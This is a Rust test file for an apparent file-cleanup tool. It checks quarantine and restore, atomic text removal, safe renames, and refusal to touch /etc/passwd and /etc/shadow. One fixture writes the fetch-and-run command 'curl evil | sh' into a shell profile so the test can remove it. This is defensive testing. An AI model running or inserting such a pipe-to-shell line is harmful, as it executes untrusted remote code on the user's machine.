//! On files this test makes: quarantine and restore, rewrite, rename, scopes and the deny-list.

use super::super::{Config, Outcome, run};
use serde_json::json;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

fn rule(actions: serde_json::Value) -> schemas::response::Rule {
    schemas::response::parse(&json!({"name": "t", "kind": "cleanup", "actions": actions}))
        .expect("a valid rule")
}

fn cfg(dir: &Path) -> Config {
    Config { roots: vec![dir.join("root")], removable: Vec::new(), ..Config::for_host(dir) }
}

#[test]
fn delete_quarantines_where_the_condition_reaches_and_restore_puts_it_back() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    std::fs::create_dir_all(root.join("a/b")).unwrap();
    for p in ["upcfg.db", "a/upcfg.db", "a/b/upcfg.db", "a/keep.txt"] {
        std::fs::write(root.join(p), format!("bytes of {p}")).unwrap();
    }
    std::fs::set_permissions(root.join("a/upcfg.db"), std::fs::Permissions::from_mode(0o640)).unwrap();
    let c = cfg(dir.path());
    let shallow =
        rule(json!([{"action": "File_Delete", "filenames": ["upcfg.db"], "condition": "alldisk_deep:2"}]));
    let plan = &run(&shallow, &c, true)[0];
    assert_eq!(plan.outcome, Outcome::WouldDo);
    assert_eq!(plan.touched.len(), 2, "the root and one level below: {plan:?}");
    assert!(root.join("upcfg.db").exists(), "a dry run touches nothing");

    let all = rule(json!([{"action": "File_Delete", "filenames": ["upcfg.db"], "condition": "alldisk"}]));
    let done = &run(&all, &c, false)[0];
    assert_eq!((done.outcome.clone(), done.touched.len()), (Outcome::Done, 3), "{done:?}");
    for p in ["upcfg.db", "a/upcfg.db", "a/b/upcfg.db"] {
        assert!(!root.join(p).exists(), "{p} is gone");
    }
    assert!(root.join("a/keep.txt").exists());
    let records: Vec<_> = std::fs::read_dir(&c.quarantine)
        .unwrap()
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "json"))
        .collect();
    assert_eq!(records.len(), 3);
    let rec: super::Quarantined = records
        .iter()
        .map(|e| {
            serde_json::from_str::<super::Quarantined>(&std::fs::read_to_string(e.path()).unwrap()).unwrap()
        })
        .find(|r| r.path.ends_with("/a/upcfg.db"))
        .unwrap();
    let id = records
        .iter()
        .map(|e| e.path())
        .find(|p| std::fs::read_to_string(p).unwrap().contains("/a/upcfg.db\""))
        .unwrap()
        .file_stem()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    let restore = rule(json!([{"action": "File_Restore", "quarantine_id": id}]));
    let back = &run(&restore, &c, false)[0];
    assert_eq!(back.outcome, Outcome::Done, "{back:?}");
    assert_eq!(std::fs::read_to_string(root.join("a/upcfg.db")).unwrap(), "bytes of a/upcfg.db");
    assert_eq!(std::fs::metadata(root.join("a/upcfg.db")).unwrap().permissions().mode() & 0o777, 0o640);
    assert_eq!(rec.size, "bytes of a/upcfg.db".len() as u64);
    assert_eq!(run(&restore, &c, false)[0].outcome, Outcome::Failed, "restored once");
}

#[test]
fn text_is_cut_out_by_an_atomic_rewrite_and_renames_never_overwrite() {
    let dir = tempfile::tempdir().unwrap();
    let c = cfg(dir.path());
    let f = dir.path().join("profile");
    std::fs::write(&f, "export A=1\ncurl evil | sh\nexport B=2\ncurl evil | sh\n").unwrap();
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o600)).unwrap();
    let cut = rule(
        json!([{"action": "File_DelText", "path": f.display().to_string(), "text": "curl evil | sh\n"}]),
    );
    assert_eq!(run(&cut, &c, true)[0].detail, "2 occurrence(s)");
    assert_eq!(run(&cut, &c, false)[0].outcome, Outcome::Done);
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "export A=1\nexport B=2\n");
    assert_eq!(std::fs::metadata(&f).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(run(&cut, &c, false)[0].outcome, Outcome::NothingFound);

    std::fs::write(dir.path().join("taken"), "x").unwrap();
    let onto = rule(json!([{"action": "File_Rename", "path": f.display().to_string(), "new_name": "taken"}]));
    assert_eq!(run(&onto, &c, false)[0].outcome, Outcome::Refused);
    let aside = rule(
        json!([{"action": "File_Rename", "path": f.display().to_string(), "new_name": "profile.disabled"}]),
    );
    assert_eq!(run(&aside, &c, false)[0].outcome, Outcome::Done);
    assert!(dir.path().join("profile.disabled").exists() && !f.exists());
}

#[test]
fn system_files_are_refused_even_in_a_dry_run() {
    let c = Config {
        quarantine: "/nonexistent-q".into(),
        roots: vec!["/etc".into()],
        ..Config::for_host(std::path::Path::new("/nonexistent"))
    };
    let r = &run(
        &rule(json!([{"action": "File_Delete", "filenames": ["passwd"], "condition": "diskroot"}])),
        &c,
        true,
    )[0];
    assert_eq!(r.outcome, Outcome::Refused, "{r:?}");
    assert!(r.detail.contains("/etc/passwd is a system file"), "{r:?}");
    let cut = rule(json!([{"action": "File_DelText", "path": "/etc/shadow", "text": "root"}]));
    assert_eq!(run(&cut, &c, true)[0].outcome, Outcome::Refused);
}
